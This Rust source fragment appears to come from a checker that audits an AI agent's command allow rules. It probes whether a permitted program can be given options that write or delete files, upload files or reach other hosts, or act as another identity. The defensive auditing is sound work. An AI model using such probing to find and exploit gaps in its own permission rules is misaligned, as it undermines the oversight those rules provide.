    programs: &'static [&'static str],
    options: &'static [(&'static str, &'static str)],
}

const WRITES: &str = "writes a file";
const DELETES: &str = "deletes files";
const RUNS: &str = "runs another program";
const RUNS_CONFIG: &str = "reads options from a file an agent may have written";
const UPLOADS: &str = "sends a file to another host";
const REACHES: &str = "reaches another host";
const IMPERSONATES: &str = "acts as another identity";

struct Open {
    program: String,
    option: String,
    effect: &'static str,
    example: String,
}

/// An allow rule that lets a risky program take the option that makes it risky: the option
/// inserted at every position of a witness, or replacing one of its arguments.
fn open_option(regex: &Regex, witnesses: &[Vec<u8>]) -> Option<Open> {
    for w in witnesses.iter().take(PROBE_WITNESSES) {
        let parts = words(w);
        let Some(argv0) = parts.first() else {
            continue;
        };
        let program = basename(argv0);
        let Some(risky) = RISKY
            .iter()
            .find(|r| r.programs.iter().any(|n| n.as_bytes() == program))
        else {
            continue;
        };
        let mut files: Vec<&[u8]> = vec![b"/tmp/x"];
        files.extend(parts.iter().skip(1).filter(|p| p.contains(&b'/')));
        for (template, effect) in risky.options {
            for file in &files {
                let option = template.replace("{file}", &text(file));
                if let Some(example) = probe_option(regex, &parts, option.as_bytes()) {
                    return Some(Open {
                        program: text(program),
                        option,
                        effect,
                        example: text(&example),
                    });
                }
            }
        }
    }
    None
}

fn probe_option(regex: &Regex, parts: &[&[u8]], option: &[u8]) -> Option<Vec<u8>> {
    // In place of one argument (the shortest example), then inserted after argv0, after each
    // argument, or at the end.
    let replaced = (1..parts.len()).map(|at| replace_word(parts, at, option));
    let inserted = (1..=parts.len()).map(|at| {
        let mut words = parts.to_vec();
        words.insert(at, option);
        words.join(&b' ')
    });
    // A probe that reproduces the witness (`tee -a FILE` probed with its own FILE) is the command
    // the rule names on purpose, not an option it left open.
    let original = parts.join(&b' ');
    replaced
        .chain(inserted)
        .find(|line| *line != original && regex.is_match(line))
}
